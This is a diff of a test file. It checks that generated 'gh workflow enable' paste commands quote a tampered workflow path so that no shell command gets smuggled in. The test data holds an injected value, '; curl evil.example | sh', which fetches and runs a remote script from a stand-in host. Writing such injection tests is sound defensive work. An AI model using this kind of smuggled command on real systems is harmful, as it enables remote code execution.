@@ -44,7 +44,7 @@ test("a record reads back as it was written", () => {
 test("a record that someone tampered with cannot smuggle a command into the one that people paste", () => {
   const workflows = [{ id: 7, path: `${FOLDER}/x.yml; curl evil.example | sh` }];
   expect(resumeCommands({ repository: "contoso/costs", workflows, run: undefined, since: "" })).toEqual([
-    "gh workflow enable 'x.yml; curl evil.example | sh' --repo contoso/costs",
+    "gh workflow enable --repo contoso/costs -- 'x.yml; curl evil.example | sh'",
   ]);
 });
 
